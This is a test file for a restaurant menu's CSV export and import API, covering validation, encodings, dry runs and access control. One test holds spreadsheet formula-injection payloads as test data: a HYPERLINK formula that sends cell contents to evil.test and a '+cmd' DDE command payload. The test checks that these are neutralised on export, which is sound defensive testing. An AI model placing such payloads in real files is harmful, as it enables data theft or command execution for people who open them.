import { randomUUID } from 'node:crypto';
import { dietCodes } from '@bistro/contract/dietary';
import type { MenuCsvProblem, MenuImportResult } from '@bistro/contract/menu-csv';
import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, multipartFile, type SignedIn, signInAs } from '../../../test/helper.ts';
import { MOST_PROBLEMS_TOLD } from './menu-csv.ts';

// A file of one section a dish, without collections, tax categories and options (it keeps each
// dish's), and the export's columns.
const HEADER = 'id,name,sections,price,recipe,image,allergens,diets';
const EXPORT_HEADER = 'id,name,sections,collections,tax_category,price,recipe,image,allergens,diets,options';

const multipart = (file: Buffer | string, field = 'file') =>
  multipartFile(file, { field, filename: 'menu.csv', type: 'text/csv' });

describe('the menu as a CSV file', () => {
  let app: FastifyInstance;
  let admin: SignedIn;
  let staff: SignedIn;
  let diner: SignedIn;
  beforeAll(async () => {
    app = await buildTestApp();
    admin = await signInAs(app, { email: 'admin@bistro.test', role: 'admin' });
    staff = await signInAs(app, { email: 'kitchen@bistro.test', role: 'staff' });
    diner = await signInAs(app, { email: 'diner@bistro.test' });
  });
  afterAll(() => app.close());

  const exported = async () => {
    const response = await app.inject({ method: 'GET', url: '/api/menu/export.csv', headers: admin.headers });
    expect(response.statusCode).toBe(200);
    return response.rawPayload;
  };
  const rowsOf = (csv: Buffer | string) =>
    parse(Buffer.from(csv), { bom: true, columns: true }) as Record<string, string>[];
  const publicMenu = async () => (await app.inject({ method: 'GET', url: '/api/menu' })).body;
  const importFile = (
    file: Buffer | string,
    { dryRun = false, headers = admin.headers as Record<string, string>, field = 'file' } = {},
  ) => {
    const body = multipart(file, field);
    return app.inject({
      method: 'POST',
      url: `/api/menu/import${dryRun ? '?dryRun=true' : ''}`,
      payload: body.payload,
      headers: { ...headers, ...body.headers },
    });
  };
  const imported = async (file: Buffer | string, options: { dryRun?: boolean } = {}) => {
    const response = await importFile(file, options);
    expect(response.statusCode, response.body).toBe(200);
    return response.json() as MenuImportResult;
  };
  const problemsOf = async (file: Buffer | string) => (await refusal(file)).details.problems;
  /** The 400 a bad file gets, in `language` when there is one. */
  const refusal = async (file: Buffer | string, language?: string) => {
    const headers = { ...admin.headers, ...(language ? { 'accept-language': language } : {}) };
    const response = await importFile(file, { headers });
    expect(response.statusCode, response.body).toBe(400);
    return response.json() as { message: string; details: { problems: MenuCsvProblem[] } };
  };
  const addDish = async (dish: Record<string, unknown>) => {
    const response = await app.inject({ method: 'POST', url: '/api/menu', headers: admin.headers, payload: dish });
    expect(response.statusCode, response.body).toBe(200);
    return response.json().insertedId as string;
  };
  const addGroup = async (name: string) => {
    const response = await app.inject({
      method: 'POST',
      url: '/api/option-groups',
      headers: admin.headers,
      payload: { name, min: 0, max: 1, choices: [{ name: `${name} choice`, price: 1 }] },
    });
    expect(response.statusCode, response.body).toBe(200);
    return response.json().insertedId as string;
  };
  /** The names of a dish's option groups, in the order the shop shows them. */
  const groupsOf = async (id: string) =>
    ((await app.inject({ method: 'GET', url: `/api/menu/${id}` })).json().optionGroups as { name: string }[]).map(
      (group) => group.name,
    );

  it('exports every dish: UTF-8 with a BOM, CRLF, the documented columns, prices as plain decimals', async () => {
    const id = await addDish({
      name: 'Crème brûlée',
      category: 'dessert',
      price: 12.5,
      image: '/x.webp',
      allergens: ['milk', 'eggs'],
      diets: ['vegetarian'],
    });
    const response = await app.inject({ method: 'GET', url: '/api/menu/export.csv', headers: admin.headers });
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe('attachment; filename="menu.csv"');
    const bytes = response.rawPayload;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString('utf8').slice(1).split('\r\n')[0]).toBe(EXPORT_HEADER);
    const rows = rowsOf(bytes);
    expect(rows).toHaveLength(JSON.parse(await publicMenu()).length);
    expect(rows.find((row) => row.id === id)).toEqual({
      id,
      name: 'Crème brûlée',
      sections: 'desserts',
      collections: '',
      tax_category: '',
      price: '12.50',
      recipe: '',
      image: '/x.webp',
      allergens: 'eggs|milk',
      diets: 'vegetarian',
      options: '',
    });
  });

  it('changes nothing when its own export comes back: the dry run and the import say 0 added, 0 changed', async () => {
    const [sauce, crust] = [await addGroup('Round-trip sauce'), await addGroup('=Round-trip crust')];
    const id = await addDish({
      name: 'Calzone',
      category: 'pizza',
      price: 11,
      image: '/calzone.webp',
      optionGroupIds: [crust, sauce],
    });
    const menuBefore = await publicMenu();
    const file = await exported();
    // A group's name is guarded against formulas as any cell is.
    expect(rowsOf(file).find((row) => row.id === id)?.options).toBe("'=Round-trip crust|Round-trip sauce");
    const dishes = rowsOf(file).length;
    const dryRun = await imported(file, { dryRun: true });
    expect(dryRun).toEqual({ dryRun: true, added: 0, changed: 0, unchanged: dishes, changes: [] });
    expect(await imported(file)).toEqual({ dryRun: false, added: 0, changed: 0, unchanged: dishes, changes: [] });
    expect(await publicMenu()).toBe(menuBefore);
    expect((await exported()).equals(file)).toBe(true);
    expect(await groupsOf(id)).toEqual(['=Round-trip crust', 'Round-trip sauce']);
  });

  it("replaces a dish's option groups in the file's order; the dry run shows it; a file without the column keeps them", async () => {
    const [size, dip] = [await addGroup('Wrap size'), await addGroup('Wrap dip')];
    await addGroup('Wrap side');
    const id = await addDish({
      name: 'Falafel wrap',
      sections: ['mains'],
      price: 9,
      image: '/wrap.webp',
      optionGroupIds: [size, dip],
    });
    const menuBefore = await publicMenu();
    const newId = randomUUID();
    const file = [
      `${HEADER},options`,
      `${id},Falafel wrap,mains,9,,/wrap.webp,,,wrap DIP | Wrap side|wrap size`,
      `${newId},Halloumi wrap,mains,10,,/halloumi.webp,,,Wrap side`,
    ].join('\r\n');
    expect((await imported(file, { dryRun: true })).changes).toEqual([
      { line: 2, action: 'change', id, name: 'Falafel wrap', columns: ['options'] },
      { line: 3, action: 'add', id: newId, name: 'Halloumi wrap', columns: [...HEADER.split(',').slice(1), 'options'] },
    ]);
    expect(await publicMenu()).toBe(menuBefore);

    expect(await imported(file)).toMatchObject({ added: 1, changed: 1 });
    expect(await groupsOf(id)).toEqual(['Wrap dip', 'Wrap side', 'Wrap size']);
    expect(await groupsOf(newId)).toEqual(['Wrap side']);
    expect(rowsOf(await exported()).find((row) => row.id === id)?.options).toBe('Wrap dip|Wrap side|Wrap size');

    // The same groups in another order are a change; no groups at all too.
    const wrapRow = `id,name,sections,price,image,options\r\n${id},Falafel wrap,mains,9,/wrap.webp`;
    const reordered = await imported(`${wrapRow},Wrap size|Wrap dip|Wrap side\r\n`);
    expect(reordered.changes).toMatchObject([{ id, columns: ['options'] }]);
    expect(await groupsOf(id)).toEqual(['Wrap size', 'Wrap dip', 'Wrap side']);
    expect(
      await imported(`id,name,sections,price,image,options\r\n${newId},Halloumi wrap,mains,10,/halloumi.webp,\r\n`),
    ).toMatchObject({ changed: 1 });
    expect(await groupsOf(newId)).toEqual([]);

    // Without the column, a changed dish keeps its groups.
    expect(
      await imported(`id,name,sections,price,image\r\n${id},Falafel wrap,mains,9.50,/wrap.webp\r\n`),
    ).toMatchObject({ changes: [{ columns: ['price'] }] });
    expect(await groupsOf(id)).toEqual(['Wrap size', 'Wrap dip', 'Wrap side']);
  });

  it('drops the cart lines holding a choice of a group the import takes off the dish', async () => {
    const group = await addGroup('Bowl topping');
    const id = await addDish({
      name: 'Poke bowl',
      sections: ['mains'],
      price: 12,
      image: '/poke.webp',
      optionGroupIds: [group],
    });
    const choice = (await app.inject({ method: 'GET', url: `/api/menu/${id}` })).json().optionGroups[0].choices[0].id;
    const added = await app.inject({
      method: 'POST',
      url: '/api/carts',
      headers: diner.headers,
      payload: { email: diner.user.email, menuID: id, choices: [choice] },
    });
    expect(added.statusCode, added.body).toBeLessThan(300);
    const cartHas = async () =>
      (
        (
          await app.inject({ method: 'GET', url: `/api/carts?email=${diner.user.email}`, headers: diner.headers })
        ).json() as { menuID: string }[]
      ).some((line) => line.menuID === id);
    expect(await cartHas()).toBe(true);
    await imported(`id,name,sections,price,image,options\r\n${id},Poke bowl,mains,12,/poke.webp,\r\n`);
    expect(await cartHas()).toBe(false);
  });

  it('refuses a name that is no group, or that two groups share, with the other bad lines, importing nothing', async () => {
    await addGroup('Twin group');
    await addGroup('twin GROUP');
    await addGroup('Risotto size');
    const id = await addDish({ name: 'Risotto', sections: ['mains'], price: 13, image: '/risotto.webp' });
    const menuBefore = await publicMenu();
    const file = [
      `${HEADER},options`,
      `${id},Risotto,mains,13,,/risotto.webp,,,Risotto size|Sizes|Dips`,
      ',Gnocchi,mains,0,,/gnocchi.webp,,,Twin group',
      `,Ravioli,mains,11,,/ravioli.webp,,,Risotto size|risotto SIZE`,
    ].join('\r\n');
    expect(await problemsOf(file)).toEqual([
      {
        line: 2,
        column: 'options',
        message: '"Sizes" is not an option group: add it on Dish Options first, or check its spelling',
      },
      {
        line: 2,
        column: 'options',
        message: '"Dips" is not an option group: add it on Dish Options first, or check its spelling',
      },
      { line: 3, column: 'price', message: 'Price must be more than 0' },
      {
        line: 3,
        column: 'options',
        message: '2 option groups are named "Twin group": give each its own name on Dish Options',
      },
      { line: 4, column: 'options', message: 'Each option group can be on a dish once' },
    ]);
    expect(await publicMenu()).toBe(menuBefore);
  });

  it('reads and writes a dish’s sections (its own first), collections and tax category; an older file’s category is one section', async () => {
    const id = await addDish({ name: 'Margherita bianca', sections: ['pizza'], price: 12, image: '/bianca.webp' });
    const file = [
      EXPORT_HEADER,
      `${id},Margherita bianca,pizza|mains,POPULAR|offered,Takeaway-food,12,,/bianca.webp,,,`,
    ].join('\r\n');
    expect((await imported(file)).changes).toEqual([
      {
        line: 2,
        action: 'change',
        id,
        name: 'Margherita bianca',
        columns: ['sections', 'collections', 'tax_category'],
      },
    ]);
    const dish = (await app.inject({ method: 'GET', url: `/api/menu/${id}` })).json();
    expect(dish).toMatchObject({
      sections: ['pizza', 'mains'],
      category: 'pizza',
      collections: ['popular', 'offered'],
      taxCategory: 'takeaway-food',
    });
    expect(rowsOf(await exported()).find((row) => row.id === id)).toMatchObject({
      sections: 'pizza|mains',
      collections: 'popular|offered',
      tax_category: 'takeaway-food',
    });
    // The same sections in another order are a change: the first is the dish's own.
    expect(
      (await imported(`id,name,sections,price,image\r\n${id},Margherita bianca,mains|pizza,12,/bianca.webp\r\n`))
        .changes,
    ).toMatchObject([{ columns: ['sections'] }]);

    // A file from before sections: its category names a section (soup: Soups), and Popular is a collection now.
    expect(
      (await imported(`id,name,category,price,image\r\n${id},Margherita bianca,soup,12,/bianca.webp\r\n`)).changes,
    ).toMatchObject([{ columns: ['category'] }]);
    expect((await app.inject({ method: 'GET', url: `/api/menu/${id}` })).json().sections).toEqual(['soups']);
    expect(await problemsOf(`name,category,price,image\r\nBurger,popular,9,/b.webp\r\n`)).toEqual([
      {
        line: 2,
        column: 'category',
        message: 'Popular and Today’s offer are collections now: write the dish’s sections, and its collections',
      },
    ]);
    expect(await problemsOf(`name,sections,category,price,image\r\n`)).toEqual([
      { line: 1, column: 'category', message: 'The columns "sections" and "category" say the same: keep one' },
    ]);
  });

  it('keeps the joining character out of option group names', async () => {
    const response = await app.inject({
      method: 'POST',
      url: '/api/option-groups',
      headers: admin.headers,
      payload: { name: 'Size|Dip', min: 0, max: 1, choices: [{ name: 'Small' }] },
    });
    expect(response.statusCode).toBe(400);
    expect(response.body).toContain('Group name cannot contain \\"|\\"');
  });

  it('neutralises formulas in every text cell on export and takes them back exactly on import', async () => {
    const tricky = {
      name: '=HYPERLINK("http://evil.test/?x="&A1,"Free dessert")',
      category: 'soup',
      price: 7,
      recipe: '+cmd|\' /C calc\'!A0\nline two, with "quotes"',
      image: '@SUM(1+1)*cmd',
      allergens: ['celery'],
    };
    const quoted = { ...tricky, name: "'=already quoted", recipe: "-2+3 and ''' quotes", image: "''" };
    const ids = [await addDish(tricky), await addDish(quoted)];
    const file = await exported();
    const cells = ids.map((id) => rowsOf(file).find((row) => row.id === id) ?? {});
    expect(cells.map((row) => [row.name, row.recipe, row.image])).toEqual([
      [`'${tricky.name}`, `'${tricky.recipe}`, `'${tricky.image}`],
      [`''=already quoted`, `'-2+3 and ''' quotes`, `'''`],
    ]);
    expect((await imported(file, { dryRun: true })).changed).toBe(0);

    // A formula someone typed into the sheet is imported as the words it is, and guarded on the way out.
    const typed = await imported(`name,category,price,recipe,image\r\n=SUM(A1:A2),soup,3,@risky,+img.webp\r\n`);
    expect(typed.added).toBe(1);
    const typedDish = (
      JSON.parse(await publicMenu()) as { _id: string; name: string; recipe: string; image: string }[]
    ).find((item) => item.name === '=SUM(A1:A2)');
    expect(typedDish).toMatchObject({ recipe: '@risky', image: '+img.webp' });
    expect(rowsOf(await exported()).find((row) => row.id === typedDish?._id)).toMatchObject({
      name: "'=SUM(A1:A2)",
      recipe: "'@risky",
      image: "'+img.webp",
    });

    // The same rows without their ids are new dishes, named exactly as the originals.
    const withoutIds = file.toString('utf8').replace(new RegExp(ids.join('|'), 'g'), '');
    const rows = rowsOf(withoutIds).filter((row) => row.id === '');
    const added = await imported(
      `${EXPORT_HEADER}\r\n${withoutIds
        .split('\r\n')
        .filter((line) => line.startsWith(','))
        .join('\r\n')}`,
    );
    expect(added.added).toBe(rows.length);
    const menu = JSON.parse(await publicMenu()) as { name: string; recipe: string; image: string }[];
    for (const dish of [tricky, quoted]) {
      expect(menu.filter((item) => item.name === dish.name).map(({ recipe, image }) => ({ recipe, image }))).toEqual([
        { recipe: dish.recipe, image: dish.image },
        { recipe: dish.recipe, image: dish.image },
      ]);
    }
  });

  it('previews an edited file (dry run, nothing written), then adds and changes exactly those dishes', async () => {
    const id = await addDish({ name: 'Onion soup', category: 'soup', price: 6.5, image: '/onion.webp' });
    const newId = randomUUID();
    const file = [
      HEADER,
      `${id},Onion soup,soups,6.90,Gratinated,/onion.webp,gluten|milk,`,
      ',Pea soup,SOUPS,"5,25",,/pea.webp,,vegan|vegetarian',
      `${newId},Lentil soup,soups,5,,/lentil.webp,,`,
    ].join('\n');
    const menuBefore = await publicMenu();
    const preview = await imported(file, { dryRun: true });
    expect(preview).toMatchObject({ dryRun: true, added: 2, changed: 1 });
    expect(preview.changes).toEqual([
      { line: 2, action: 'change', id, name: 'Onion soup', columns: ['price', 'recipe', 'allergens'] },
      { line: 3, action: 'add', id: null, name: 'Pea soup', columns: expect.any(Array) },
      { line: 4, action: 'add', id: newId, name: 'Lentil soup', columns: expect.any(Array) },
    ]);
    expect(await publicMenu()).toBe(menuBefore);

    expect(await imported(file)).toMatchObject({ dryRun: false, added: 2, changed: 1 });
    const menu = JSON.parse(await publicMenu()) as { _id: string; name: string; price: number; diets: string[] }[];
    expect(menu.filter((dish) => dish.name === 'Onion soup')).toMatchObject([
      { _id: id, price: 6.9, recipe: 'Gratinated', allergens: ['gluten', 'milk'] },
    ]);
    expect(menu.find((dish) => dish.name === 'Pea soup')).toMatchObject({
      price: 5.25,
      diets: ['vegetarian', 'vegan'],
    });
    expect(menu.find((dish) => dish.name === 'Lentil soup')).toMatchObject({ _id: newId, price: 5 });
    // Imported again: the dishes with an id are the same dishes; the one without is added once more.
    expect(await imported(file, { dryRun: true })).toMatchObject({ added: 1, changed: 0, unchanged: 2 });
  });

  it('keeps what a column the file leaves out says: only the name and price change', async () => {
    const id = await addDish({
      name: 'Tiramisu',
      category: 'dessert',
      price: 8,
      image: '/t.webp',
      recipe: 'Mascarpone',
      allergens: ['eggs'],
    });
    const result = await imported(`image,price,name,category,id\r\n/t.webp,8.50,Tiramisù,dessert,${id}\r\n`);
    expect(result.changes).toEqual([{ line: 2, action: 'change', id, name: 'Tiramisù', columns: ['name', 'price'] }]);
    const dish = (await app.inject({ method: 'GET', url: `/api/menu/${id}` })).json();
    expect(dish).toMatchObject({ name: 'Tiramisù', price: 8.5, recipe: 'Mascarpone', allergens: ['eggs'] });
  });

  it('refuses a file with bad rows, naming every bad line and column, and imports none of it', async () => {
    const id = await addDish({ name: 'Borscht', category: 'soup', price: 7, image: '/b.webp' });
    const menuBefore = await publicMenu();
    const file = [
      HEADER,
      `${id},Fine dish,soups,4.00,,/fine.webp,,`,
      ',,pasta,$4,,/x.webp,nuts|shellfish,',
      `,Borscht,soups,7.005,"beetroot`,
      `and dill",/b.webp,,carnivore`,
      'not-an-id,Soup,soups,0,,,,',
      ',Short row,soups,4',
      `${id},Borscht again,soups,7,,/b.webp,,`,
    ].join('\r\n');
    expect(await problemsOf(file)).toEqual([
      { line: 3, column: 'name', message: 'Name is required' },
      {
        line: 3,
        column: 'sections',
        message: expect.stringMatching(/^"pasta" is not a section of the menu: use salads, pizza, soups/),
      },
      { line: 3, column: 'price', message: 'Price must be a plain number such as 12.50, without a currency sign' },
      { line: 3, column: 'allergens', message: expect.stringMatching(/^"shellfish" is not an allergen: use celery/) },
      { line: 4, column: 'price', message: 'Price can have at most two decimals' },
      { line: 4, column: 'diets', message: expect.stringMatching(/^"carnivore" is not a dietary label/) },
      { line: 6, column: 'id', message: 'Menu item id must be a UUID' },
      { line: 6, column: 'price', message: 'Price must be more than 0' },
      { line: 6, column: 'image', message: 'Image is required' },
      { line: 7, column: null, message: 'This row has 4 cells where the header has 8' },
      { line: 8, column: 'id', message: 'Line 2 has the same id: a dish can be on one line only' },
    ]);
    const response = await importFile(file);
    expect(response.json().message).toBe('Nothing was imported: 11 problems on 5 lines of the file');
    expect(await publicMenu()).toBe(menuBefore);
  });

  it('says a refused file’s problems in the request’s language; the contract’s field messages stay its English', async () => {
    const id = await addDish({ name: 'Gazpacho', category: 'soup', price: 6, image: '/g.webp' });
    const file = [
      HEADER,
      `${id},Gazpacho,soups,6,,/g.webp,,`,
      ',Soup,soups,$6,,/s.webp,,carnivore',
      ',Short row,soups,4',
      ',Soup,soups,0,,/s.webp,,',
      `${id},Gazpacho again,soups,6,,/g.webp,,`,
    ].join('\r\n');
    const diets = dietCodes.join(', ');
    expect(await refusal(file, 'fr')).toMatchObject({
      message: 'Rien n’a été importé : 5 problèmes sur 4 lignes du fichier',
      details: {
        problems: [
          {
            line: 3,
            column: 'price',
            message: 'Le prix doit être un simple nombre comme 12.50, sans symbole monétaire',
          },
          { line: 3, column: 'diets', message: `« carnivore » n’est pas un régime alimentaire : utilisez ${diets}` },
          { line: 4, column: null, message: 'Cette ligne a 4 cellules alors que l’en-tête en a 8' },
          { line: 5, column: 'price', message: 'Price must be more than 0' },
          {
            line: 6,
            column: 'id',
            message: 'La ligne 2 a le même id : un plat ne peut figurer que sur une seule ligne',
          },
        ],
      },
    });
    expect((await refusal(file, 'ar')).details.problems.map((problem) => problem.message)).toEqual([
      'يجب أن يكون السعر رقمًا بسيطًا مثل 12.50، دون رمز العملة',
      `«carnivore» ليس ملصقًا غذائيًا: استخدم ${diets}`,
      'في هذا الصف 4 خلايا بينما في صف العناوين 8',
      'Price must be more than 0',
      'للسطر 2 المعرّف نفسه: لا يكون الطبق إلا في سطر واحد',
    ]);
    expect((await refusal('name,category,colour,name\r\n', 'fr')).details.problems.slice(1)).toEqual([
      { line: 1, column: 'name', message: 'La colonne « name » figure deux fois' },
      { line: 1, column: 'price', message: 'L’en-tête n’a pas de colonne « price »' },
      { line: 1, column: 'image', message: 'L’en-tête n’a pas de colonne « image »' },
    ]);
  });

  it('names what is wrong with the header: an unknown, a repeated or a missing column', async () => {
    expect(await problemsOf('Name,category,colour,name\r\n')).toEqual([
      {
        line: 1,
        column: 'colour',
        message: expect.stringMatching(/^"colour" is not a column of the menu: use id, name/),
      },
      { line: 1, column: 'name', message: 'The column "name" is twice' },
      { line: 1, column: 'price', message: 'The header has no "price" column' },
      { line: 1, column: 'image', message: 'The header has no "image" column' },
    ]);
    expect(await problemsOf('')).toEqual([
      { line: 1, column: null, message: 'The file is empty: it needs a header row' },
    ]);
    expect((await problemsOf(`${HEADER}\n,"Open quote,soups,4,,/o.webp,,\n`))[0]).toMatchObject({
      line: 2,
      column: null,
    });
  });

  it('reads a file with or without a BOM; refuses Latin-1, UTF-16 and a workbook with a clear 400', async () => {
    const row = `${HEADER}\r\n,Café crème,drinks,3.20,,/cafe.webp,milk,\r\n`;
    const noBom = await imported(row, { dryRun: true });
    const withBom = await imported(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(row)]), {
      dryRun: true,
    });
    expect(withBom).toEqual(noBom);
    expect(noBom.changes).toMatchObject([{ line: 2, action: 'add', name: 'Café crème' }]);

    expect(
      await problemsOf(Buffer.from(`${HEADER}\r\n,Soup,soups,3,,/s.webp,,\r\n${row.split('\r\n')[1]}`, 'latin1')),
    ).toEqual([
      {
        line: 3,
        column: null,
        message: expect.stringMatching(
          /^This file is not in UTF-8 \(perhaps Latin-1 or Windows-1252\): save it .*"CSV UTF-8"/,
        ),
      },
    ]);
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(row, 'utf16le')]);
    expect((await problemsOf(utf16))[0]?.message).toMatch(/^This file is in UTF-16/);
    expect((await problemsOf(Buffer.from(row, 'utf16le')))[0]?.message).toMatch(/^This file is in UTF-16/);
    expect((await problemsOf(Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14])))[0]?.message).toMatch(/^This is a workbook/);
  });

  it('reads a file up to 5 MiB; refuses one over it with 413, and an upload in another field with 400', async () => {
    // A name padded with spaces (trimmed on import) makes a file just under the limit.
    const row = (padding: number) => `${HEADER}\r\n,${' '.repeat(padding)}Big soup,soups,3,,/s.webp,,\r\n`;
    const underLimit = row(5 * 1024 * 1024 - Buffer.byteLength(row(0)));
    expect(Buffer.byteLength(underLimit)).toBe(5 * 1024 * 1024);
    expect(await imported(underLimit, { dryRun: true })).toMatchObject({ added: 1, changes: [{ name: 'Big soup' }] });

    const big = `${HEADER}\r\n${`,Soup,soups,3,,/s.webp,,\r\n`.repeat(230_000)}`;
    expect(Buffer.byteLength(big)).toBeGreaterThan(5 * 1024 * 1024);
    const menuBefore = await publicMenu();
    const response = await importFile(big);
    expect(response.statusCode).toBe(413);
    expect(response.json().message).toMatch(/over 5 MB/);
    expect(await publicMenu()).toBe(menuBefore);
    expect((await importFile(`${HEADER}\r\n`, { field: 'menu' })).statusCode).toBe(400);
  });

  it('is for administrators only: kitchen staff and diners get 403, visitors 401', async () => {
    const menuBefore = await publicMenu();
    const file = `${HEADER}\r\n,Sneaky soup,soups,1,,/s.webp,,\r\n`;
    for (const [headers, status] of [
      [staff.headers, 403],
      [diner.headers, 403],
      [{}, 401],
    ] as const) {
      expect((await app.inject({ method: 'GET', url: '/api/menu/export.csv', headers })).statusCode).toBe(status);
      expect((await importFile(file, { headers })).statusCode).toBe(status);
      expect((await importFile(file, { headers, dryRun: true })).statusCode).toBe(status);
    }
    expect(await publicMenu()).toBe(menuBefore);
  });

  it('imports 10,000 dishes in one go, half with two option groups, well under 10 s, and exports them back unchanged', async () => {
    await addGroup('Bulk size');
    await addGroup('Bulk extras');
    const rows = Array.from(
      { length: 10_000 },
      (_, index) =>
        `,Dish ${index},${index % 2 ? 'pizza|salads' : 'salads'},${index % 3 ? '' : 'popular'},${index % 2 ? 'food' : ''},${(index % 50) + 1}.25,"Recipe ${index}, with a comma",/d${index}.webp,milk|eggs,vegetarian,${index % 2 ? 'Bulk size|Bulk extras' : ''}`,
    );
    // Measured here: 3.2–8.5 s on PGlite and on PostgreSQL on a loaded machine (docs/menu-csv.md).
    const started = performance.now();
    const result = await imported(`${EXPORT_HEADER}\r\n${rows.join('\r\n')}`);
    expect(result.added).toBe(10_000);
    expect((performance.now() - started) / 1000).toBeLessThan(10);

    const file = await exported();
    const exportedRows = rowsOf(file);
    expect(exportedRows.length).toBeGreaterThan(10_000);
    expect(exportedRows.filter((row) => row.options === 'Bulk size|Bulk extras')).toHaveLength(5_000);
    expect(await imported(file, { dryRun: true })).toMatchObject({ added: 0, changed: 0 });
  });

  describe('a large file', () => {
    // Just under the 5 MB an upload may have: a dish a row.
    const rowsOf5Mb = (row: (index: number) => string) => {
      const rows = [HEADER];
      for (let index = 0, bytes = 0; bytes < 4_900_000; index++) {
        rows.push(row(index));
        bytes += (rows.at(-1)?.length ?? 0) + 2;
      }
      return rows.join('\r\n');
    };

    it(`lists the first ${MOST_PROBLEMS_TOLD} problems of a bad one in a small answer, and says there are more`, async () => {
      const response = await importFile(rowsOf5Mb((index) => `,Soup ${index},soups,not a price,,/s.webp,,`));
      expect(response.statusCode).toBe(400);
      expect(response.body.length).toBeLessThan(50_000);
      expect(response.json().details.problems).toHaveLength(MOST_PROBLEMS_TOLD);
      expect(response.json().message).toBe(
        `Nothing was imported: ${MOST_PROBLEMS_TOLD} problems on ${MOST_PROBLEMS_TOLD} lines of the file, and more after them: fix these, then import it again`,
      );
    });

    it('lets the server answer others while it reads one to its end', async () => {
      // Good rows, with a bad one now and then: the whole file is read before it is refused.
      const file = rowsOf5Mb((index) => `,Soup ${index},soups,${index % 5000 === 4999 ? 'free' : '3'},,/s.webp,,`);
      // The longest the server went without a turn for anything else (a timer due every 10 ms),
      // against the whole import.
      let longestStall = 0;
      let last = performance.now();
      const ticks = setInterval(() => {
        const now = performance.now();
        longestStall = Math.max(longestStall, now - last);
        last = now;
      }, 10);
      const started = performance.now();
      const refused = await importFile(file);
      const took = performance.now() - started;
      clearInterval(ticks);
      // The last stretch too, should the answer come before the timer's next turn.
      longestStall = Math.max(longestStall, performance.now() - last);
      expect(refused.statusCode).toBe(400);
      expect(refused.json().details.problems.length).toBeGreaterThan(10);
      expect(longestStall).toBeLessThan(took / 4);
    }, 60_000);
  });
});
